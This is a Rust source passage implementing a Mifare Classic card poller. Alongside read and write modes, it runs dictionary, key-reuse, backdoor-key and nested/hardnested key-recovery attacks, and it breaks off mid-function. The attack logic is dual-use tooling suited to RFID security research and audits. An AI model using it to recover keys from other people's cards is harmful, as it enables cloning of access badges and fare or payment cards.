//! The Mifare Classic poller: a cooperative, single-step state machine that
//! drives dictionary and nested attacks over a frame transport.
//!
//! One [`Poller::poll`] call performs at most one protocol operation and
//! reports what happened through [`PollerEvent`]s. Request-style events carry
//! a mutable payload the caller fills in before returning; there is no queue
//! and no out-of-order delivery. Losing the tag pauses the attack with its
//! state intact; the next successful activation resumes it.

pub mod auth;
pub mod nested;

pub use auth::{AuthContext, ValueCommand};
pub use nested::{Backdoor, NestedConfig, NestedPhase, PrngType};

use rand::rngs::StdRng;
use rand::SeedableRng;
use tracing::{debug, warn};

use crate::classic::{
    first_block_of_sector, sector_trailer_block, Block, Key, KeyType, TagData, TagSize,
};
use crate::crypto1::{is_weak_nonce, nonce_distance, Crypto1};
use crate::errors::{Error, Result};
use crate::transport::FrameTransport;

use nested::{Anchor, Candidate, NestedState, NonceRecord, Target, BACKDOOR_KEYS};

/// What the poller has been asked to do with the tag.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum PollerMode {
    /// Read all sectors with caller-provided keys.
    Read,
    /// Write caller-provided blocks using caller-provided trailers.
    Write,
    /// Per-sector dictionary attack with the key-reuse shortcut.
    #[default]
    DictAttackStandard,
    /// Dictionary attack plus backdoor probing and the nested engine.
    DictAttackEnhanced,
}

/// Filled by the caller on [`PollerEvent::RequestMode`].
#[derive(Debug, Default)]
pub struct ModeRequest {
    pub mode: PollerMode,
    /// Optional pre-seeded snapshot (known keys, previous reads). UID and
    /// activation data are kept from the live tag.
    pub tag: Option<TagData>,
    /// Set by the poller before the event fires: sector count of the tag
    /// in the field.
    pub sectors_total: u8,
}

/// Filled by the caller on [`PollerEvent::RequestKey`].
#[derive(Debug)]
pub struct KeyRequest {
    pub sector: u8,
    pub key_type: KeyType,
    /// True when the key feeds the nested engine's offline filter rather
    /// than an over-the-air attempt.
    pub nested: bool,
    /// `None` means the dictionary pass is exhausted.
    pub key: Option<Key>,
}

/// Filled by the caller on [`PollerEvent::RequestReadSector`].
#[derive(Debug)]
pub struct ReadSectorRequest {
    pub sector: u8,
    pub key: Option<(Key, KeyType)>,
}

/// Filled by the caller on [`PollerEvent::RequestSectorTrailer`].
#[derive(Debug)]
pub struct SectorTrailerRequest {
    pub sector: u8,
    pub trailer: Option<Block>,
}

/// Filled by the caller on [`PollerEvent::RequestWriteBlock`].
#[derive(Debug)]
pub struct WriteBlockRequest {
    pub block: u16,
    pub data: Option<Block>,
}

/// Progress counters pushed with [`PollerEvent::DataUpdate`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct DataUpdate {
    pub sectors_read: u8,
    pub keys_found: u8,
    pub current_sector: u8,
    pub nested_phase: NestedPhase,
    pub prng_type: PrngType,
    pub backdoor: Backdoor,
    pub nested_target_key: u16,
    pub msb_count: u16,
}

/// Events emitted during a poll step. Request variants borrow their payload
/// mutably; the handler fills them in before returning.
#[derive(Debug)]
pub enum PollerEvent<'a> {
    RequestMode(&'a mut ModeRequest),
    RequestKey(&'a mut KeyRequest),
    RequestReadSector(&'a mut ReadSectorRequest),
    RequestSectorTrailer(&'a mut SectorTrailerRequest),
    RequestWriteBlock(&'a mut WriteBlockRequest),
    NextSector { current_sector: u8 },
    DataUpdate(DataUpdate),
    FoundKeyA { sector: u8, key: Key },
    FoundKeyB { sector: u8, key: Key },
    KeyAttackStart { current_sector: u8 },
    KeyAttackNextSector { current_sector: u8 },
    KeyAttackStop,
    CardDetected,
    CardLost,
    Success,
    Fail { error: Error },
}

/// Whether the caller should keep polling.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PollerCommand {
    Continue,
    Stop,
}

#[derive(Debug, Clone, Copy)]
pub struct PollerConfig {
    pub nested: NestedConfig,
    /// Consecutive unexplained protocol errors tolerated before the session
    /// is declared failed.
    pub max_protocol_errors: u8,
}

impl Default for PollerConfig {
    fn default() -> Self {
        Self { nested: NestedConfig::default(), max_protocol_errors: 8 }
    }
}

/// Live cipher/session state. Exactly one exists per poller; it dies on
/// halt, reselection or tag loss.
#[derive(Debug, Default)]
pub(crate) struct Session {
    pub active: bool,
    pub cipher: Option<Crypto1>,
    pub sector: Option<u8>,
    pub key_type: Option<KeyType>,
    /// Authenticated through a backdoor; the tag ignores access bits.
    pub backdoor: bool,
}

impl Session {
    pub fn reset(&mut self) {
        *self = Session::default();
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum State {
    DetectType,
    Start,
    RequestReadSector,
    RequestSectorTrailer,
    WriteSectorBlocks,
    AnalyzeBackdoor,
    BackdoorReadSector,
    NextSector,
    RequestKey,
    AuthKeyA,
    AuthKeyB,
    ReadSector,
    KeyReuseStart,
    KeyReuseAuth,
    NestedAnalyzePrng,
    NestedCalibrate,
    NestedCollectNtEnc,
    NestedDictAttack,
    NestedVerify,
    Evaluate,
    Success,
    Fail,
    Stopped,
}

/// Where control returns after a key-reuse sweep.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum AfterReuse {
    AuthKeyB,
    RequestKey,
}

#[derive(Debug)]
struct ReuseCtx {
    key: Key,
    key_type: KeyType,
    /// Last sector considered; the sweep continues past it.
    cursor: u8,
    started: bool,
    after: AfterReuse,
}

#[derive(Debug)]
struct WriteCtx {
    sector: u8,
    trailer: Block,
    block: u16,
}

pub struct Poller<T: FrameTransport> {
    pub(crate) transport: T,
    pub(crate) rng: StdRng,
    config: PollerConfig,
    state: State,
    resume: Option<State>,
    pub(crate) data: TagData,
    pub(crate) session: Session,
    pub(crate) read_attempted: Vec<bool>,
    mode: PollerMode,
    card_detected: bool,
    current_sector: u8,
    dict_key: Option<Key>,
    reuse: Option<ReuseCtx>,
    write: Option<WriteCtx>,
    read_sector: u8,
    read_cursor: Option<u16>,
    read_return: State,
    read_key_override: Option<(Key, bool)>,
    backdoor_probe: u8,
    backdoor_sector: u8,
    blocks_written: u16,
    nested: NestedState,
    skip: bool,
    protocol_errors: u8,
    fail_error: Option<Error>,
}

impl<T: FrameTransport> Poller<T> {
    pub fn new(transport: T, config: PollerConfig) -> Self {
        Self {
            transport,
            rng: StdRng::from_entropy(),
            config,
            state: State::DetectType,
            resume: None,
            data: TagData::new(TagSize::default()),
            session: Session::default(),
            read_attempted: Vec::new(),
            mode: PollerMode::default(),
            card_detected: false,
            current_sector: 0,
            dict_key: None,
            reuse: None,
            write: None,
            read_sector: 0,
            read_cursor: None,
            read_return: State::NextSector,
            read_key_override: None,
            backdoor_probe: 0,
            backdoor_sector: 0,
            blocks_written: 0,
            nested: NestedState::default(),
            skip: false,
            protocol_errors: 0,
            fail_error: None,
        }
    }

    pub fn data(&self) -> &TagData {
        &self.data
    }

    pub fn mode(&self) -> PollerMode {
        self.mode
    }

    pub fn card_detected(&self) -> bool {
        self.card_detected
    }

    pub fn nested_phase(&self) -> NestedPhase {
        self.nested.phase
    }

    pub fn prng_type(&self) -> PrngType {
        self.nested.prng
    }

    pub fn backdoor(&self) -> Backdoor {
        self.nested.backdoor
    }

    /// Encrypted nonces collected so far by the nested engine.
    pub fn nested_nonce_count(&self) -> usize {
        self.nested.records.len()
    }

    /// Cooperative skip: advances past the current sector or nested target
    /// at the next opportunity.
    pub fn request_skip(&mut self) {
        self.skip = true;
    }

    /// Runs one step of the state machine. At most one protocol operation
    /// happens per call; events fire synchronously into `on_event`.
    pub fn poll(&mut self, on_event: &mut dyn FnMut(PollerEvent<'_>)) -> Result<PollerCommand> {
        let result = match self.state {
            State::DetectType => self.step_detect(on_event),
            State::Start => self.step_start(on_event),
            State::RequestReadSector => self.step_request_read_sector(on_event),
            State::RequestSectorTrailer => self.step_request_sector_trailer(on_event),
            State::WriteSectorBlocks => self.step_write_sector_blocks(on_event),
            State::AnalyzeBackdoor => self.step_analyze_backdoor(on_event),
            State::BackdoorReadSector => self.step_backdoor_read_sector(on_event),
            State::NextSector => self.step_next_sector(on_event),
            State::RequestKey => self.step_request_key(on_event),
            State::AuthKeyA => self.step_auth_key(KeyType::A, on_event),
            State::AuthKeyB => self.step_auth_key(KeyType::B, on_event),
            State::ReadSector => self.step_read_sector(on_event),
            State::KeyReuseStart => self.step_key_reuse_start(on_event),
            State::KeyReuseAuth => self.step_key_reuse_auth(on_event),
            State::NestedAnalyzePrng => self.step_nested_analyze(on_event),
            State::NestedCalibrate => self.step_nested_calibrate(on_event),
            State::NestedCollectNtEnc => self.step_nested_collect(on_event),
            State::NestedDictAttack => self.step_nested_dict(on_event),
            State::NestedVerify => self.step_nested_verify(on_event),
            State::Evaluate => self.step_evaluate(on_event),
            State::Success => {
                on_event(PollerEvent::Success);
                self.state = State::Stopped;
                Ok(())
            }
            State::Fail => {
                let error = self.fail_error.clone().unwrap_or(Error::TagLost);
                on_event(PollerEvent::Fail { error });
                self.state = State::Stopped;
                Ok(())
            }
            State::Stopped => Ok(()),
        };

        if let Err(err) = result {
            self.handle_step_error(err, on_event);
        }

        Ok(match self.state {
            State::Stopped => PollerCommand::Stop,
            _ => PollerCommand::Continue,
        })
    }

    fn handle_step_error(&mut self, err: Error, on_event: &mut dyn FnMut(PollerEvent<'_>)) {
        if err.is_absence() {
            debug!(%err, "tag absent, pausing");
            self.session.reset();
            if self.card_detected {
                self.card_detected = false;
                on_event(PollerEvent::CardLost);
            }
            if self.state != State::DetectType && self.state != State::Stopped {
                self.resume = Some(self.state);
            }
            self.state = State::DetectType;
            return;
        }
        match err {
            Error::Protocol(_) => {
                self.protocol_errors += 1;
                warn!(%err, count = self.protocol_errors, "protocol error");
                if self.protocol_errors > self.config.max_protocol_errors {
                    self.fail_error = Some(err);
                    self.state = State::Fail;
                }
            }
            err => {
                self.fail_error = Some(err);
                self.state = State::Fail;
            }
        }
    }

    fn emit_update(&self, on_event: &mut dyn FnMut(PollerEvent<'_>)) {
        on_event(PollerEvent::DataUpdate(DataUpdate {
            sectors_read: self.data.sectors_read(),
            keys_found: self.data.keys_found(),
            current_sector: self.current_sector,
            nested_phase: self.nested.phase,
            prng_type: self.nested.prng,
            backdoor: self.nested.backdoor,
            nested_target_key: self.nested.target_key,
            msb_count: self.nested.msb_count,
        }));
    }

    fn found_key(
        &mut self,
        sector: u8,
        key_type: KeyType,
        key: Key,
        on_event: &mut dyn FnMut(PollerEvent<'_>),
    ) {
        debug!(sector, %key_type, %key, "key found");
        self.data.set_key(sector, key_type, key);
        match key_type {
            KeyType::A => on_event(PollerEvent::FoundKeyA { sector, key }),
            KeyType::B => on_event(PollerEvent::FoundKeyB { sector, key }),
        }
        self.emit_update(on_event);
    }

    /// Activation failed → the tag is gone; anything else is a pause too.
    fn require_presence(&mut self) -> Result<()> {
        if self.check_presence() {
            Ok(())
        } else {
            Err(Error::TagLost)
        }
    }

    // ---- detection and mode dispatch ------------------------------------

    fn step_detect(&mut self, on_event: &mut dyn FnMut(PollerEvent<'_>)) -> Result<()> {
        match self.activate() {
            Ok(()) => {
                if !self.card_detected {
                    self.card_detected = true;
                    on_event(PollerEvent::CardDetected);
                }
                self.protocol_errors = 0;
                match self.resume.take() {
                    Some(state) => {
                        if state == State::NestedVerify {
                            // Re-entering verification after an interruption.
                            self.nested.phase = NestedPhase::DictAttackResume;
                            self.emit_update(on_event);
                        }
                        self.state = state;
                    }
                    None => self.state = State::Start,
                }
                Ok(())
            }
            // Nothing in the field yet; stay here and let the caller decide
            // how long to keep looking.
            Err(err) if err.is_absence() => Ok(()),
            Err(err) => Err(err),
        }
    }

    fn step_start(&mut self, on_event: &mut dyn FnMut(PollerEvent<'_>)) -> Result<()> {
        let mut request = ModeRequest {
            sectors_total: self.data.sector_count(),
            ..Default::default()
        };
        on_event(PollerEvent::RequestMode(&mut request));
        self.mode = request.mode;
        if let Some(tag) = request.tag {
            // Keep live identity, adopt caller-known keys and contents.
            let (uid, atqa, sak) = (self.data.uid, self.data.atqa, self.data.sak);
            self.data = tag;
            self.data.uid = uid;
            self.data.atqa = atqa;
            self.data.sak = sak;
            self.read_attempted = vec![false; self.data.sector_count() as usize];
        }
        self.current_sector = 0;
        self.emit_update(on_event);
        self.state = match self.mode {
            PollerMode::Read => State::RequestReadSector,
            PollerMode::Write => State::RequestSectorTrailer,
            PollerMode::DictAttackStandard => State::RequestKey,
            PollerMode::DictAttackEnhanced => State::AnalyzeBackdoor,
        };
        Ok(())
    }

    // ---- plain read mode ------------------------------------------------

    fn step_request_read_sector(&mut self, on_event: &mut dyn FnMut(PollerEvent<'_>)) -> Result<()> {
        if self.current_sector >= self.data.sector_count() {
            self.state = State::Evaluate;
            return Ok(());
        }
        let mut request = ReadSectorRequest { sector: self.current_sector, key: None };
        on_event(PollerEvent::RequestReadSector(&mut request));
        match request.key {
            None => {
                self.current_sector += 1;
            }
            Some((key, key_type)) => {
                self.data.set_key(self.current_sector, key_type, key);
                self.read_sector = self.current_sector;
                self.read_return = State::RequestReadSector;
                self.current_sector += 1;
                self.state = State::ReadSector;
            }
        }
        Ok(())
    }

    // ---- write mode -----------------------------------------------------

    fn step_request_sector_trailer(
        &mut self,
        on_event: &mut dyn FnMut(PollerEvent<'_>),
    ) -> Result<()> {
        if self.current_sector >= self.data.sector_count() {
            self.state = State::Evaluate;
            return Ok(());
        }
        let mut request = SectorTrailerRequest { sector: self.current_sector, trailer: None };
        on_event(PollerEvent::RequestSectorTrailer(&mut request));
        match request.trailer {
            None => {
                self.current_sector += 1;
            }
            Some(trailer) => {
                self.write = Some(WriteCtx {
                    sector: self.current_sector,
                    trailer,
                    block: first_block_of_sector(self.current_sector),
                });
                self.state = State::WriteSectorBlocks;
            }
        }
        Ok(())
    }

    fn step_write_sector_blocks(&mut self, on_event: &mut dyn FnMut(PollerEvent<'_>)) -> Result<()> {
        let (sector, trailer, block) = match &self.write {
            Some(ctx) => (ctx.sector, ctx.trailer, ctx.block),
            None => {
                self.state = State::RequestSectorTrailer;
                return Ok(());
            }
        };
        let trailer_block = sector_trailer_block(sector);
        if block > trailer_block {
            self.write = None;
            self.current_sector += 1;
            self.emit_update(on_event);
            self.state = State::RequestSectorTrailer;
            return Ok(());
        }
        // Block 0 carries the manufacturer data; leave it alone.
        if block == 0 {
            self.advance_write_block();
            return Ok(());
        }

        let mut request = WriteBlockRequest { block, data: None };
        on_event(PollerEvent::RequestWriteBlock(&mut request));
        let payload = match request.data {
            Some(payload) => payload,
            None => {
                self.advance_write_block();
                return Ok(());
            }
        };

        let access = crate::classic::AccessConditions::parse(&trailer)
            .unwrap_or_else(|_| crate::classic::AccessConditions::transport());
        let key_type = if block == trailer_block {
            // Any writable trailer part decides the auth key.
            [
                crate::classic::TrailerPart::KeyA,
                crate::classic::TrailerPart::AccessBits,
                crate::classic::TrailerPart::KeyB,
            ]
            .iter()
            .find_map(|part| {
                let perm = access.trailer_write_perm(*part);
                [KeyType::B, KeyType::A].into_iter().find(|kt| perm.allows(*kt))
            })
        } else {
            let perm = access.data_perm(sector, block, crate::classic::Action::Write);
            [KeyType::B, KeyType::A].into_iter().find(|kt| perm.allows(*kt))
        };
        let key_type = match key_type {
            Some(kt) => kt,
            None => {
                debug!(block, "write denied by access conditions");
                self.advance_write_block();
                return Ok(());
            }
        };
        let key = match key_type {
            KeyType::A => Key(trailer.0[0..6].try_into().unwrap()),
            KeyType::B => Key(trailer.0[10..16].try_into().unwrap()),
        };

        if self.session.cipher.is_none()
            || self.session.sector != Some(sector)
            || self.session.key_type != Some(key_type)
        {
            if !self.session.active {
                self.require_presence()?;
            }
            match self.authenticate(trailer_block, key, key_type, false) {
                Ok(_) => {}
                Err(err) if err.is_absence() => {
                    self.require_presence()?;
                    // Tag present but the trailer key does not work; the
                    // sector cannot be written.
                    warn!(sector, "write auth failed, skipping sector");
                    self.write = None;
                    self.current_sector += 1;
                    self.state = State::RequestSectorTrailer;
                    return Ok(());
                }
                Err(err) => return Err(err),
            }
            return Ok(());
        }

        match self.write_block(block, &payload) {
            Ok(()) => {
                self.blocks_written += 1;
                self.advance_write_block();
            }
            Err(Error::AccessDenied) => self.advance_write_block(),
            Err(err) if err.is_absence() => {
                self.require_presence()?;
                self.session.reset();
            }
            Err(err) => return Err(err),
        }
        Ok(())
    }

    fn advance_write_block(&mut self) {
        if let Some(ctx) = &mut self.write {
            ctx.block += 1;
        }
    }

    // ---- backdoor probe and backdoor read -------------------------------

    fn step_analyze_backdoor(&mut self, on_event: &mut dyn FnMut(PollerEvent<'_>)) -> Result<()> {
        let probe = self.backdoor_probe as usize;
        if probe >= BACKDOOR_KEYS.len() {
            self.nested.backdoor = Backdoor::None;
            self.emit_update(on_event);
            self.state = State::RequestKey;
            return Ok(());
        }
        let (key, kind) = BACKDOOR_KEYS[probe];
        if !self.session.active {
            self.require_presence()?;
        }
        match self.authenticate(sector_trailer_block(0), Key::from_u64(key), KeyType::A, true) {
            Ok(_) => {
                debug!(?kind, "backdoor responds");
                self.nested.backdoor = kind;
                self.emit_update(on_event);
                let _ = self.halt();
                self.backdoor_sector = 0;
                self.state = State::BackdoorReadSector;
            }
            Err(err) if err.is_absence() => {
                self.require_presence()?;
                self.backdoor_probe += 1;
            }
            Err(Error::Protocol(_)) => {
                self.backdoor_probe += 1;
            }
            Err(err) => return Err(err),
        }
        Ok(())
    }

    fn step_backdoor_read_sector(&mut self, on_event: &mut dyn FnMut(PollerEvent<'_>)) -> Result<()> {
        if self.backdoor_sector >= self.data.sector_count() {
            self.read_key_override = None;
            self.emit_update(on_event);
            self.current_sector = 0;
            self.state = State::RequestKey;
            return Ok(());
        }
        let key = backdoor_key(self.nested.backdoor).ok_or(Error::Protocol("no backdoor key"))?;
        self.read_sector = self.backdoor_sector;
        self.read_key_override = Some((key, true));
        self.read_return = State::BackdoorReadSector;
        self.backdoor_sector += 1;
        self.state = State::ReadSector;
        Ok(())
    }

    // ---- dictionary attack ----------------------------------------------

    fn step_next_sector(&mut self, on_event: &mut dyn FnMut(PollerEvent<'_>)) -> Result<()> {
        self.current_sector += 1;
        self.dict_key = None;
        if self.current_sector >= self.data.sector_count() {
            self.state = State::Evaluate;
        } else {
            on_event(PollerEvent::NextSector { current_sector: self.current_sector });
            self.state = State::RequestKey;
        }
        Ok(())
    }

    fn step_request_key(&mut self, on_event: &mut dyn FnMut(PollerEvent<'_>)) -> Result<()> {
        if self.skip {
            self.skip = false;
            self.state = State::NextSector;
            return Ok(());
        }
        let sector = self.current_sector;
        let missing_a = !self.data.is_key_known(sector, KeyType::A);
        let missing_b = !self.data.is_key_known(sector, KeyType::B);
        if !missing_a && !missing_b {
            if !self.read_attempted[sector as usize] {
                self.read_sector = sector;
                self.read_return = State::NextSector;
                self.read_key_override = None;
                self.state = State::ReadSector;
            } else {
                self.state = State::NextSector;
            }
            return Ok(());
        }

        let mut request = KeyRequest {
            sector,
            key_type: if missing_a { KeyType::A } else { KeyType::B },
            nested: false,
            key: None,
        };
        on_event(PollerEvent::RequestKey(&mut request));
        match request.key {
            None => {
                // Dictionary exhausted; the sector stays unresolved for now.
                self.state = State::NextSector;
            }
            Some(key) => {
                self.dict_key = Some(key);
                self.state = if missing_a { State::AuthKeyA } else { State::AuthKeyB };
            }
        }
        Ok(())
    }

    fn step_auth_key(
        &mut self,
        key_type: KeyType,
        on_event: &mut dyn FnMut(PollerEvent<'_>),
    ) -> Result<()> {
        let sector = self.current_sector;
        let key = match self.dict_key {
            Some(key) => key,
            None => {
                self.state = State::RequestKey;
                return Ok(());
            }
        };
        if self.data.is_key_known(sector, key_type) {
            self.state = self.after_auth_state(key_type);
            return Ok(());
        }
        if !self.session.active {
            self.require_presence()?;
        }
        match self.authenticate(sector_trailer_block(sector), key, key_type, false) {
            Ok(_) => {
                self.found_key(sector, key_type, key, on_event);
                let _ = self.halt();
                self.reuse = Some(ReuseCtx {
                    key,
                    key_type,
                    cursor: sector,
                    started: false,
                    after: match key_type {
                        KeyType::A if !self.data.is_key_known(sector, KeyType::B) => {
                            AfterReuse::AuthKeyB
                        }
                        _ => AfterReuse::RequestKey,
                    },
                });
                self.state = State::KeyReuseStart;
            }
            Err(err) if err.is_absence() => {
                self.require_presence()?;
                self.state = self.after_auth_state(key_type);
            }
            Err(Error::Protocol(_)) => {
                self.protocol_errors += 1;
                self.state = self.after_auth_state(key_type);
            }
            Err(err) => return Err(err),
        }
        Ok(())
    }

    /// After an A attempt the same dictionary key gets a B attempt; after B
    /// we move on to the next key.
    fn after_auth_state(&self, tried: KeyType) -> State {
        match tried {
            KeyType::A if !self.data.is_key_known(self.current_sector, KeyType::B) => {
                State::AuthKeyB
            }
            _ => State::RequestKey,
        }
    }

    // ---- key reuse sweep ------------------------------------------------

    fn step_key_reuse_start(&mut self, on_event: &mut dyn FnMut(PollerEvent<'_>)) -> Result<()> {
        let (key_type, cursor, started, after) = match &self.reuse {
            Some(ctx) => (ctx.key_type, ctx.cursor, ctx.started, ctx.after),
            None => {
                self.state = State::RequestKey;
                return Ok(());
            }
        };
        let next = ((cursor + 1)..self.data.sector_count())
            .find(|s| !self.data.is_key_known(*s, key_type));
        match next {
            None => {
                if started {
                    on_event(PollerEvent::KeyAttackStop);
                }
                self.reuse = None;
                self.state = match after {
                    AfterReuse::AuthKeyB => State::AuthKeyB,
                    AfterReuse::RequestKey => State::RequestKey,
                };
            }
            Some(sector) => {
                if let Some(ctx) = &mut self.reuse {
                    ctx.cursor = sector;
                    if !ctx.started {
                        ctx.started = true;
                        on_event(PollerEvent::KeyAttackStart { current_sector: sector });
                    }
                }
                on_event(PollerEvent::KeyAttackNextSector { current_sector: sector });
                self.state = State::KeyReuseAuth;
            }
        }
        Ok(())
    }

    fn step_key_reuse_auth(&mut self, on_event: &mut dyn FnMut(PollerEvent<'_>)) -> Result<()> {
        let (key, key_type, sector) = match &self.reuse {
            Some(ctx) => (ctx.key, ctx.key_type, ctx.cursor),
            None => {
                self.state = State::RequestKey;
                return Ok(());
            }
        };
        if !self.session.active {
            self.require_presence()?;
        }
        match self.authenticate(sector_trailer_block(sector), key, key_type, false) {
            Ok(_) => {
                self.found_key(sector, key_type, key, on_event);
                self.read_sector = sector;
                self.read_return = State::KeyReuseStart;
                self.read_key_override = None;
                self.state = State::ReadSector;
            }
            Err(err) if err.is_absence() => {
                self.require_presence()?;
                self.state = State::KeyReuseStart;
            }
            Err(Error::Protocol(_)) => {
                self.protocol_errors += 1;
                self.state = State::KeyReuseStart;
            }
            Err(err) => return Err(err),
        }
        Ok(())
    }

    // ---- sector reading -------------------------------------------------

    fn step_read_sector(&mut self, on_event: &mut dyn FnMut(PollerEvent<'_>)) -> Result<()> {
        let sector = self.read_sector;
        let (key, key_type, backdoor) = match self.read_key_override {
            Some((key, backdoor)) => (key, KeyType::A, backdoor),
            None => match self.data.keys_of(sector).any() {
                Some((key, key_type)) => (key, key_type, false),
                None => {
                    self.finish_read_sector(on_event);
                    return Ok(());
                }
            },
        };

        if self.session.cipher.is_none() || self.session.sector != Some(sector) {
            if !self.session.active {
                self.require_presence()?;
            }
            match self.authenticate(sector_trailer_block(sector), key, key_type, backdoor) {
                Ok(_) => {
                    self.read_cursor = Some(first_block_of_sector(sector));
                }
                Err(err) if err.is_absence() => {
                    self.require_presence()?;
                    self.protocol_errors += 1;
                    if self.protocol_errors > self.config.max_protocol_errors {
                        warn!(sector, "cannot open sector for reading, skipping");
                        self.protocol_errors = 0;
                        self.finish_read_sector(on_event);
                    }
                }
                Err(err) => return Err(err),
            }
            return Ok(());
        }

        let block = match self.read_cursor {
            Some(block) => block,
            None => {
                let first = first_block_of_sector(sector);
                self.read_cursor = Some(first);
                first
            }
        };
        match self.read_block(block) {
            Ok(mut data) => {
                if block == sector_trailer_block(sector) {
                    splice_known_keys(&mut data, self.data.keys_of(sector));
                }
                self.data.set_block(block, data);
            }
            Err(Error::AccessDenied) => {
                debug!(block, "read denied, leaving block unread");
            }
            Err(err) if err.is_absence() => {
                self.require_presence()?;
                // Session desynced; reauthenticate and retry this block.
                self.session.reset();
                return Ok(());
            }
            Err(Error::Protocol(_)) => {
                self.protocol_errors += 1;
            }
            Err(err) => return Err(err),
        }

        let next = block + 1;
        if next > sector_trailer_block(sector) {
            self.finish_read_sector(on_event);
        } else {
            self.read_cursor = Some(next);
        }
        Ok(())
    }

    fn finish_read_sector(&mut self, on_event: &mut dyn FnMut(PollerEvent<'_>)) {
        self.read_attempted[self.read_sector as usize] = true;
        self.read_cursor = None;
        let _ = self.halt();
        self.emit_update(on_event);
        self.state = self.read_return;
    }

    // ---- nested / hardnested attack -------------------------------------

    fn enter_phase(&mut self, phase: NestedPhase, on_event: &mut dyn FnMut(PollerEvent<'_>)) {
        if self.nested.phase != phase {
            self.nested.phase = phase;
            self.emit_update(on_event);
        }
    }

    fn step_nested_analyze(&mut self, on_event: &mut dyn FnMut(PollerEvent<'_>)) -> Result<()> {
        self.enter_phase(NestedPhase::AnalyzePrng, on_event);
        let wanted = self.config.nested.analyze_nonces as usize;
        if self.nested.analyze_nts.len() < wanted {
            if !self.session.active {
                self.require_presence()?;
            }
            match self.get_nt(sector_trailer_block(0), KeyType::A, false) {
                Ok(nt) => self.nested.analyze_nts.push(nt),
                Err(err) if err.is_absence() => {
                    self.nested.analyze_misses += 1;
                    if self.nested.analyze_misses > 4 {
                        self.nested.classify(PrngType::NoTag);
                        return Err(Error::TagLost);
                    }
                    self.require_presence()?;
                }
                Err(err) => return Err(err),
            }
            return Ok(());
        }

        let weak = self.nested.analyze_nts.iter().all(|nt| is_weak_nonce(*nt));
        self.nested
            .classify(if weak { PrngType::Weak } else { PrngType::Hard });
        self.emit_update(on_event);

        self.nested.targets = self.collect_targets();
        self.nested.target_idx = 0;
        self.state = match self.nested.prng {
            PrngType::Weak => State::NestedCalibrate,
            _ => State::NestedCollectNtEnc,
        };
        Ok(())
    }

    fn collect_targets(&self) -> Vec<Target> {
        let mut targets = Vec::new();
        for sector in 0..self.data.sector_count() {
            for key_type in [KeyType::A, KeyType::B] {
                if !self.data.is_key_known(sector, key_type) {
                    targets.push(Target { sector, key_type });
                }
            }
        }
        targets
    }

    fn step_nested_calibrate(&mut self, on_event: &mut dyn FnMut(PollerEvent<'_>)) -> Result<()> {
        let phase = if self.nested.dist.is_some() {
            NestedPhase::Recalibrate
        } else {
            NestedPhase::Calibrate
        };
        self.enter_phase(phase, on_event);

        let anchor = match self.nested.anchor {
            Some(anchor) => anchor,
            None => {
                self.nested.phase = NestedPhase::Finished;
                self.state = State::Evaluate;
                return Ok(());
            }
        };
        if (self.nested.calib_samples.len() as u8) < self.config.nested.calibration_rounds {
            match self.measure_anchor_distance(anchor) {
                Ok(Some(dist)) => self.nested.calib_samples.push(dist),
                Ok(None) => {
                    self.nested.calib_misses += 1;
                    if self.nested.calib_misses > 2 {
                        // The nonce stream does not behave; nested attack is
                        // not going to work on this tag.
                        warn!("calibration failed, abandoning nested attack");
                        self.nested.phase = NestedPhase::Finished;
                        self.state = State::Evaluate;
                    }
                }
                Err(err) if err.is_absence() => {
                    self.require_presence()?;
                    self.bump_nested_trouble();
                }
                Err(err) => return Err(err),
            }
            return Ok(());
        }

        let dist = self.nested.calibrated_distance();
        self.nested.calib_samples.clear();
        self.nested.calib_misses = 0;
        match dist {
            Some(d) => {
                debug!(dist = d, "calibrated");
                self.nested.dist = Some(d);
                self.nested.since_drift_check = 0;
                self.state = State::NestedCollectNtEnc;
            }
            None => {
                self.nested.phase = NestedPhase::Finished;
                self.state = State::Evaluate;
            }
        }
        Ok(())
    }

    /// One calibration measurement: plain auth to the anchor, nested re-auth
    /// to the anchor, distance between the two plaintext nonces.
    fn measure_anchor_distance(&mut self, anchor: Anchor) -> Result<Option<u16>> {
        self.activate()?;
        let block = sector_trailer_block(anchor.sector);
        let first = self.authenticate(block, anchor.key, anchor.key_type, anchor.backdoor)?;
        let second =
            self.authenticate_nested(block, anchor.key, anchor.key_type, anchor.backdoor, false)?;
        let _ = self.halt();
        Ok(nonce_distance(first.nt, second.nt))
    }

    fn step_nested_collect(&mut self, on_event: &mut dyn FnMut(PollerEvent<'_>)) -> Result<()> {
        self.enter_phase(NestedPhase::CollectNtEnc, on_event);
        if self.skip {
            self.skip = false;
            self.nested.advance_target();
        }
        let target = loop {
            match self.nested.current_target() {
                None => {
                    self.nested.target_idx = 0;
                    self.state = State::NestedDictAttack;
                    return Ok(());
                }
                Some(t) if self.data.is_key_known(t.sector, t.key_type) => {
                    self.nested.advance_target();
                }
                Some(t) => break t,
            }
        };
        let anchor = match self.nested.anchor {
            Some(anchor) => anchor,
            None => {
                self.nested.phase = NestedPhase::Finished;
                self.state = State::Evaluate;
                return Ok(());
            }
        };

        if self.nested.prng == PrngType::Weak
            && self.nested.since_drift_check >= self.config.nested.drift_check_interval
        {
            // Periodic drift probe against the anchor; recalibrate when the
            // measured distance leaves the window.
            self.nested.since_drift_check = 0;
            match self.measure_anchor_distance(anchor) {
                Ok(Some(d)) => {
                    let calibrated = self.nested.dist.unwrap_or(d);
                    let tolerance = self.config.nested.distance_tolerance;
                    if d.abs_diff(calibrated) > tolerance {
                        debug!(measured = d, calibrated, "drift detected, recalibrating");
                        self.state = State::NestedCalibrate;
                    }
                }
                Ok(None) => {
                    self.state = State::NestedCalibrate;
                }
                Err(err) if err.is_absence() => self.require_presence()?,
                Err(err) => return Err(err),
            }
            return Ok(());
        }

        self.activate()?;
        let anchor_block = sector_trailer_block(anchor.sector);
        let anchor_ctx =
            match self.authenticate(anchor_block, anchor.key, anchor.key_type, anchor.backdoor) {
                Ok(ctx) => ctx,
                Err(err) if err.is_absence() => {
                    self.require_presence()?;
                    self.bump_nested_trouble();
                    return Ok(());
                }
                Err(err) => return Err(err),
            };
        let nested_ctx = match self.authenticate_nested(
            sector_trailer_block(target.sector),
            anchor.key,
            target.key_type,
            false,
            true,
        ) {
            Ok(ctx) => ctx,
            Err(err) if err.is_absence() => {
                self.require_presence()?;
